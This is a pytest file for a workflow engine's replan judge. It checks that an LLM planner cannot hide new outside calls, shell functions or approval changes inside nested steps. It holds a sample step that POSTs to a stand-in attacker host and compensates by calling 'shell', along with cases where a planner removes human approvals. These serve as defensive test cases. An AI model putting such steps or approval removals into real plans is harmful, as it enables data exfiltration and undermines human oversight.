"""R18 and R33: a planner gets no farther through what is inside a composite step than past the fence of the others."""

from __future__ import annotations

import pytest

from engine.core.replan_judge import judge
from tests.core.harness import Play

BODY = (
    "{steps: {pay: {kind: http, effect: compensatable, approval: {group: boss}, with: {method: POST, url: '${world}/pay'},"
    " validate: [{name: paid, rule: 'true'}],"
    " compensate: {kind: http, with: {method: POST, url: '${world}/refund'}}}, sure: {kind: approval, needs: pay}}}"
)
KINDS = {
    "map": f"m: {{kind: map, needs: a, with: {{over: [1]}}, body: {BODY}}}",
    "loop": f"m: {{kind: loop, needs: a, with: {{until: 'true', max_rounds: 2}}, body: {BODY}}}",
    "team": f"m: {{kind: team, needs: a, with: {{tasks: [{{id: t, role: w}}]}}, workers: {{w: {BODY}}}}}",
    "saga": "m: {kind: saga, needs: a, with: {saga: inner}, definition: {saga: inner, app: {n: 0},"
    f" invariants: [{{name: few, rule: 'app.n < 9'}}], steps: {BODY.removeprefix('{steps: ').removesuffix('}')}}}}}",
}
MODEL = "recovery: repair\nreplan: {by: {kind: llm, with: {prompt: plan}}}\n"
EVIL = {
    "kind": "http", "effect": "compensatable", "with": {"method": "POST", "url": "http://evil.example/x"},
    "compensate": {"kind": "python", "with": {"function": "shell", "args": {}}},
}  # fmt: skip
READ = {"kind": "python", "with": {"function": "read"}}


def run_of(kind="map"):
    return Play(f"{MODEL}steps: {{a: {{<read>}}, {KINDS[kind]}}}").run


def findings(run, patch):
    return judge(run, run.saga.replan, patch, ["m"]).findings


def inside(kind, steps):
    """Return what changes about step `m`, for steps inside it."""
    return {"m": {"map": {"body": {"steps": steps}}, "loop": {"body": {"steps": steps}},
                  "team": {"workers": {"w": {"steps": steps}}}, "saga": {"definition": {"steps": steps}}}[kind]}  # fmt: skip


def wrapped(step):
    """Return a step in each way of putting it inside another one."""
    body = {"steps": {"x": step}}
    yield {"kind": "map", "with": {"over": [1]}, "body": body}
    yield {"kind": "loop", "with": {"until": "true"}, "body": body}
    yield {"kind": "team", "with": {"tasks": [{"id": "t", "role": "w"}]}, "workers": {"w": body}}
    yield {"kind": "saga", "with": {"saga": "in"}, "definition": {"saga": "in", **body}}
    yield {
        "kind": "agent",
        "with": {"prompt": "do"},
        "tools": {"x": {"description": "x", "step": {**step, "effect": "compensatable"}}},
    }
    yield {"kind": "map", "with": {"over": [1]}, "body": {"steps": {"in": {"kind": "map", "with": {"over": [1]}, "body": body}}}}  # fmt: skip


@pytest.mark.parametrize("step", list(wrapped(EVIL)), ids=lambda step: step["kind"])
def test_R18_whom_a_step_inside_another_one_calls_and_how_it_is_undone_is_fenced_too(step):
    found = " ".join(findings(run_of(), {"n": {**step, "needs": ["a"]}}))
    assert "calls http://evil.example, which nothing in the plan does" in found
    assert "calls the function `shell`, which nothing in the plan does" in found
    assert "is undone in a way that was never rehearsed" in found


def test_R18_what_the_plan_of_people_does_inside_a_step_may_be_done_elsewhere():
    pay = run_of().saga.document()["steps"]["m"]["body"]["steps"]["pay"]
    assert findings(run_of(), {"n": {**pay, "needs": ["a"]}}) == ()
    assert findings(run_of(), {"n": {"kind": "map", "needs": ["a"], "with": {"over": [2]}, "body": {"steps": {"p": pay}}}}) == ()  # fmt: skip


def test_R18_a_function_that_only_checks_is_called_as_well():
    step = {
        **READ,
        "needs": ["a"],
        "validate": [{"kind": "python", "name": "v", "with": {"function": "shell"}}],
    }
    assert findings(run_of(), {"n": step}) == (
        "'n' calls the function `shell`, which nothing in the plan does",
    )


def test_R18_a_check_of_a_nested_saga_is_a_call_as_well():
    check = {"kind": "python", "name": "v", "with": {"function": "shell"}}
    inner = {"saga": "in", "steps": {"x": READ, "y": {**READ, "needs": ["x"]}}}
    for more in (
        {"validate": [{**check, "steps": ["x", "y"]}]},
        {"edges": [{"from": "x", "to": "y", "validate": [check]}]},
    ):
        step = {"kind": "saga", "needs": ["a"], "with": {"saga": "in"}, "definition": {**inner, **more}}
        found = findings(run_of(), {"n": step})
        assert found == ("'n' calls the function `shell`, which nothing in the plan does",)


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(
    ("steps", "words"),
    [
        ({"pay": {"approval": None}}, "a planner can't change its `approval`"),
        ({"pay": {"validate": None}}, "a planner can't change its `validate`"),
        ({"pay": {"effect": "retriable"}}, "a planner can't change its `effect`"),
        ({"pay": None, "sure": {"needs": None}}, "asks people, so a planner can't remove it"),
        ({"sure": {"with": {"question": "Fine?"}}}, "asks people, so a planner can't change it"),
    ],
)
def test_R33_whoever_has_to_say_yes_inside_a_step_is_asked_in_any_plan(kind, steps, words):
    found = findings(run_of(kind), inside(kind, steps))
    assert any(words in one and one.startswith("'m.") for one in found), found


def test_R33_a_step_that_holds_a_question_can_not_be_removed():
    assert "'m.sure' asks people, so a planner can't remove it" in findings(run_of(), {"m": None})


def test_R28_what_a_nested_saga_is_held_to_stays():
    found = findings(run_of("saga"), {"m": {"definition": {"invariants": None}}})
    assert found == ("'m': a planner can't change its `definition.invariants`",)


def test_R26_what_is_inside_a_step_may_change_as_far_as_any_other():
    run = run_of()
    assert findings(run, {"m": {"body": {"steps": {"pay": {"with": {"json": {"price": 9}}}}}}}) == ()


@pytest.mark.parametrize(
    "tool",
    [{"input": {"properties": 5}}, {"input": {"properties": [1]}}, {"input": {"properties": {"x": 5}}}],
)
def test_R12_a_tool_whose_arguments_are_no_schema_is_refused(tool):
    agent = {
        "kind": "agent",
        "needs": ["a"],
        "with": {"prompt": "do"},
        "tools": {"x": {"description": "x", "step": READ, **tool}},
    }
    assert "tools.x.input" in findings(run_of(), {"n": agent})[0]


def test_R12_an_agent_whose_output_is_no_schema_is_refused():
    agent = {
        "kind": "agent",
        "needs": ["a"],
        "with": {"prompt": "do"},
        "tools": {"x": {"description": "x", "step": READ}},
    }
    for output in ({"properties": 5}, {"properties": {"answer": 5}}):
        assert "n.output" in findings(run_of(), {"n": {**agent, "output": output}})[0]
